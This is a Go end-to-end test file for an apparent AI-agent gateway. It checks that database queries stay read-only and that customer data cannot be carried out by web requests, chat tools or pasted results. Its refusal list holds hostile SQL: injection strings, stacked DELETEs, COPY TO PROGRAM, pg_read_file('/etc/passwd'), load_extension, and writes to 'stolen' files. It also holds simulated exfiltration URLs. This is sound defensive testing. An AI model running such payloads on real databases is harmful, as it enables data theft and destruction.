package e2e

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgconn"
	"github.com/modelcontextprotocol/go-sdk/mcp"
	_ "modernc.org/sqlite"

	"sallyport.example/client"
)

// crm is what the databases hold: customers, which nobody outside may see, and a price list.
const crm = `
CREATE TABLE customer (id integer PRIMARY KEY, name text NOT NULL, offer integer NOT NULL);
INSERT INTO customer VALUES (1, 'Ann Example', 40000), (2, 'Ben Example', 55000);
CREATE VIEW names AS SELECT id, name FROM customer;
`

// postgres starts a PostgreSQL of the test's own, which listens on a socket alone. It holds crm, with a role that reads and one that, by
// mistake, may write.
func postgres(t *testing.T) (address func(role string) string) {
	t.Helper()
	return postgresAt(t, "", 5432)
}

// postgresAt is one that listens at an address as well.
func postgresAt(t *testing.T, listen string, port int) (address func(role string) string) {
	t.Helper()
	for _, name := range []string{"initdb", "postgres"} {
		_, err := exec.LookPath(name)
		requireTool(t, err == nil, name)
	}
	dir, err := os.MkdirTemp("/tmp", "sallyport-pg-") // short: the path of a socket may have 107 bytes
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := os.RemoveAll(dir); err != nil {
			t.Error(err)
		}
	})
	attr := &syscall.SysProcAttr{}
	if os.Getuid() == 0 { // PostgreSQL refuses to run as root
		u, err := user.Lookup("postgres")
		if err != nil {
			u, err = user.Lookup("nobody")
		}
		requireTool(t, err == nil, "a user for PostgreSQL")
		uid, _ := strconv.Atoi(u.Uid)
		gid, _ := strconv.Atoi(u.Gid)
		attr.Credential = &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}
		if err := os.Chown(dir, uid, gid); err != nil {
			t.Fatal(err)
		}
	}
	log := &tail{}
	command := func(name string, args ...string) *exec.Cmd {
		c := exec.Command(name, args...)
		c.Dir, c.SysProcAttr, c.Stdout, c.Stderr = dir, attr, log, log
		return c
	}
	data := filepath.Join(dir, "data")
	if err := command("initdb", "-D", data, "-U", "owner", "-A", "trust", "-E", "UTF8", "--locale=C", "--no-sync").Run(); err != nil {
		t.Fatalf("initdb: %v\n%s", err, log)
	}
	server := command("postgres", "-D", data, "-k", dir, "-c", "listen_addresses="+listen, "-p", strconv.Itoa(port), "-c", "fsync=off")
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = server.Process.Signal(syscall.SIGINT) // fast shutdown
		_ = server.Wait()
	})
	address = func(role string) string {
		return fmt.Sprintf("postgres://%s@/postgres?sslmode=disable&host=%s&port=%d", role, url.QueryEscape(dir), port)
	}
	eventually(t, 30*time.Second, "PostgreSQL answers", func() bool {
		c, err := pgconn.Connect(t.Context(), address("owner"))
		if err != nil {
			return false
		}
		_ = c.Close(t.Context())
		return true
	})
	inPostgres(t, address("owner"), crm+`CREATE ROLE reader LOGIN; GRANT SELECT ON customer, names TO reader;
		CREATE ROLE writer LOGIN; GRANT ALL ON customer TO writer; GRANT CREATE ON SCHEMA public TO writer;
		CREATE FUNCTION erase() RETURNS integer LANGUAGE sql AS 'DELETE FROM customer RETURNING 1';
		CREATE ROLE boss LOGIN SUPERUSER`)
	return address
}

func inPostgres(t *testing.T, address, text string) (last string) {
	t.Helper()
	c, err := pgconn.Connect(t.Context(), address)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close(context.Background())
	results, err := c.Exec(t.Context(), text).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		for _, row := range r.Rows {
			last = string(row[0])
		}
	}
	return last
}

// sqliteFile makes a database file that holds crm.
func sqliteFile(t *testing.T) (path string) {
	t.Helper()
	path = filepath.Join(t.TempDir(), "shop.db")
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(crm); err != nil {
		t.Fatal(err)
	}
	return path
}

// A real PostgreSQL and a real SQLite file: they are read, and what would write is refused by them, whatever it is hidden in. What they
// give contaminates: it does not leave by the web, not by itself, not pasted, and not through another session.
func TestQueryDatabases(t *testing.T) {
	t.Parallel()
	address, file := postgres(t), sqliteFile(t)
	site := newWebsite(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "thanks") })
	sent := &recorder{}
	chat := newServer("chat")
	for _, name := range []string{"post", "note"} {
		tool(chat, name, "Posts.", func(_ context.Context, raw json.RawMessage) (*mcp.CallToolResult, error) {
			sent.add("%s %s", name, raw)
			return text("posted"), nil
		})
	}
	w := start(t, fmt.Sprintf(`
comm:
  allowed_domains: [%q]
  protocols: [http]
  databases: {crm: %q, writer: %q, boss: %q, away: "postgres://reader@/postgres?host=/nowhere", shop: "sqlite:%s"}
upstreams: {chat: {url: %q}}
operations: {chat.post: {sensitivity: external}, chat.note: {sensitivity: none, output: trusted}}
%s`, strings.TrimPrefix(site.url, "http://"), address("reader"), address("writer"), address("boss"), file, sdkServer(t, chat), plenty))
	query := func(t *testing.T, v *visitor, database, text string, parameters ...any) got {
		t.Helper()
		arguments := map[string]any{"database": database}
		if text != "" {
			arguments["sql"] = text
		}
		if parameters != nil {
			arguments["parameters"] = parameters
		}
		return v.ask(t, "comm_query", arguments)
	}
	before := sha256Hex(read(t, file))
	for _, door := range doors {
		for _, database := range []string{"crm", "shop"} {
			t.Run(database+", "+door, func(t *testing.T) {
				v := w.visit(door, "tester")
				g := query(t, v, database, "")
				permit(t, v, g)
				if s := g.text(t); !strings.Contains(s, `"customer"`) || !strings.Contains(s, `"names"`) || !strings.Contains(s, `"offer"`) {
					t.Errorf("schema %s", s)
				}
				mark := "$1"
				if database == "shop" {
					mark = "?"
				}
				g = query(t, v, database, "SELECT name, offer FROM customer WHERE id = "+mark, 2)
				permit(t, v, g)
				if s := g.text(t); !strings.Contains(s, "Ben Example") || !strings.Contains(s, "55000") || strings.Contains(s, "Ann") || g.meta.Source != "database:"+database {
					t.Errorf("%s from %s", s, g.meta.Source)
				}
				g = query(t, v, database, "SELECT name FROM customer WHERE name = "+mark, "x' OR '1'='1")
				permit(t, v, g)
				if s := g.text(t); strings.Contains(s, "Example") {
					t.Errorf("a parameter was pasted: %s", s)
				}
				if labels := v.held(t); !slices.Contains(labels, "internal") || !slices.Contains(labels, "untrusted") {
					t.Errorf("labels %q", labels)
				}
			})
		}
	}
	t.Run("writes are refused by the database", func(t *testing.T) {
		v := w.visit("http", "tester")
		for _, text := range []string{
			"DELETE FROM customer", "INSERT INTO customer VALUES (3, 'Eve', 1)", "UPDATE customer SET offer = 1", "DROP TABLE customer", "CREATE TABLE mine (x integer)",
			"SELECT 1; DELETE FROM customer", "SELECT 1;DELETE FROM customer;--", "WITH gone AS (DELETE FROM customer RETURNING 1) SELECT * FROM gone",
			"SELECT erase()", "COMMIT; DELETE FROM customer", "BEGIN", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
			"SELECT * INTO mine FROM customer", "COPY customer TO '/tmp/sallyport-stolen'", "COPY customer TO PROGRAM 'cat > /tmp/sallyport-stolen'", "SELECT pg_read_file('/etc/passwd')",
			"PRAGMA writable_schema = 1", "ATTACH '/tmp/sallyport-stolen.db' AS x", "VACUUM INTO '/tmp/sallyport-stolen.db'", "SELECT load_extension('/tmp/x.so')", "PRAGMA journal_mode = WAL",
			"/* SELECT */ DELETE FROM customer", "EXPLAIN ANALYZE DELETE FROM customer", "SELECT set_config('transaction_read_only', 'off', false), erase()",
		} {
			for _, database := range []string{"crm", "writer", "shop"} {
				g := query(t, v, database, text)
				if g.ok() && strings.HasPrefix(g.text(t), "The database says: ") { // no: in its own words, which may hold data
					continue
				}
				if g.ok() || g.verdict.Code != "permission.denied" && g.verdict.Code != "request.malformed" {
					t.Errorf("%s: %s: %+v %s", database, text, g.verdict, g.fenced())
				}
			}
		}
		if n := inPostgres(t, address("owner"), "SELECT count(*) || ' ' || sum(offer) FROM customer"); n != "2 95000" {
			t.Errorf("PostgreSQL now holds %q", n)
		}
		if n := inPostgres(t, address("owner"), "SELECT count(*) FROM pg_tables WHERE tablename = 'mine'"); n != "0" {
			t.Error("a table was made")
		}
		if after := sha256Hex(read(t, file)); after != before {
			t.Error("the SQLite file has changed")
		}
		if left, _ := filepath.Glob("/tmp/sallyport-stolen*"); left != nil {
			t.Errorf("left behind: %q", left)
		}
	})
	t.Run("others", func(t *testing.T) {
		v := w.visit("http", "tester")
		refusal(t, query(t, v, "boss", "SELECT 1"), "configuration.invalid")
		refusal(t, query(t, v, "nowhere", "SELECT 1"), "request.malformed")
		g := query(t, v, "away", "SELECT 1")
		refusal(t, g, "upstream.failed")
		if strings.Contains(fmt.Sprint(g), "/nowhere") {
			t.Errorf("the address is told: %+v", g)
		}
		hasty := start(t, fmt.Sprintf("comm: {databases: {crm: %q, shop: \"sqlite:%s\"}}\n%s", address("reader"), file, strings.Replace(plenty, "}", ", network_timeout: 2s}", 1)))
		v = hasty.visit("http", "tester")
		within(t, 30*time.Second, "a query without end", func() { refusal(t, query(t, v, "crm", "SELECT pg_sleep(60)"), "time.exceeded") })
		within(t, 30*time.Second, "a query without end", func() {
			refusal(t, query(t, v, "shop", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"), "time.exceeded")
		})
		hasty.close(t)
	})

	// The customer data, and each way to carry it out.
	for _, door := range doors {
		t.Run("exfiltration, "+door, func(t *testing.T) {
			v := w.visit(door, "tester")
			permit(t, v, v.fetch(t, site.url+"/before"))
			g := query(t, v, "crm", "SELECT name, offer FROM customer")
			permit(t, v, g)
			blocked := func(who *visitor, what string, g got) {
				t.Helper()
				refusal(t, g, "flow.contaminated")
				if !slices.ContainsFunc(g.verdict.Because, func(b client.Because) bool { return b.Label == "internal" && b.Operation == "comm.query" }) {
					t.Errorf("%s: because %+v", what, g.verdict.Because)
				}
			}
			blocked(v, "the web", v.fetch(t, site.url+"/steal?offer=40000"))
			blocked(v, "a tool of a server", v.call(t, "chat_post", map[string]any{"text": "40000"}))
			d := v.declare(t, "comm.fetch", map[string]any{"url": site.url + "/steal"})
			if d.Verdict.Code != "flow.contaminated" || d.State != "rejected" {
				t.Errorf("declared: %+v", d)
			}
			// Another session of the same agent, and of another door: the pasted result carries its label with it.
			for i, paste := range []string{g.fenced(), string(g.rawMeta)} {
				what := []string{"the fenced text", "the attribution"}[i]
				next := w.visit(door, "tester")
				// As it is it makes no address, and is refused for that first; the session is as contaminated for having said it.
				if g := next.fetch(t, site.url+"/steal?d="+paste); g.ok() || g.verdict.Stage != "declare" {
					t.Errorf("%s in an address: %+v", what, g.verdict)
				}
				if !slices.Contains(next.held(t), "internal") {
					t.Errorf("%s: the session that passes it on holds %q", what, next.held(t))
				}
				blocked(next, "the web after "+what, next.fetch(t, site.url+"/steal/after"))
				next = w.visit(door, "tester")
				blocked(next, what+" in a tool's argument", next.call(t, "chat_post", map[string]any{"text": "Look: " + paste, "to": []string{"x"}}))
				next = w.visit(door, "tester")
				if r := next.ask(t, "comm_write_file", map[string]any{"path": "paste.md", "content": paste}); !r.ok() {
					t.Fatalf("%+v", r.verdict)
				}
				blocked(next, what+" in a file, then the web", next.fetch(t, site.url+"/steal/file"))
			}
		})
	}
	if all := site.all(); slices.ContainsFunc(all, func(s string) bool { return strings.Contains(s, "steal") }) {
		t.Errorf("the web got %q", all)
	}
	if all := sent.all(); len(all) > 0 {
		t.Errorf("the chat got %q", all)
	}
	carried := slices.DeleteFunc(w.entries(), func(e client.Entry) bool { return len(e.Detail) == 0 || len(detail(t, e).Carries) == 0 })
	if len(carried) == 0 {
		t.Error("the log does not say that what was pasted was passed on")
	}
	w.close(t)
}

// Addresses are percent-encoded: in that form, too, a delivered result that another session passes on keeps its labels.
func TestResultPastedIntoAnAddress(t *testing.T) {
	site := newWebsite(t, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "thanks") })
	w := start(t, fmt.Sprintf("comm: {allowed_domains: [%q], protocols: [http], databases: {shop: \"sqlite:%s\"}}\n%s", strings.TrimPrefix(site.url, "http://"), sqliteFile(t), plenty))
	for _, door := range doors {
		v := w.visit(door, "tester")
		g := v.ask(t, "comm_query", map[string]any{"database": "shop", "sql": "SELECT name, offer FROM customer"})
		permit(t, v, g)
		for what, paste := range map[string]string{
			"the fenced text in the query": "/?d=" + url.QueryEscape(g.fenced()), "the fenced text in the path": "/" + url.PathEscape(g.fenced()),
			"the attribution in the query": "/?d=" + url.QueryEscape(string(g.rawMeta)), "the attribution in the path": "/" + url.PathEscape(string(g.rawMeta)),
		} {
			t.Run(what+", "+door, func(t *testing.T) {
				next := w.visit(door, "tester")
				refusal(t, next.fetch(t, site.url+paste), "flow.contaminated")
				if !slices.Contains(next.held(t), "internal") {
					t.Errorf("the session that passes it on holds %q", next.held(t))
				}
			})
		}
	}
	if all := site.all(); len(all) > 0 {
		t.Errorf("the web got %d requests, such as %.100q", len(all), all[0])
	}
	w.close(t)
}

func read(t testing.TB, file string) []byte {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
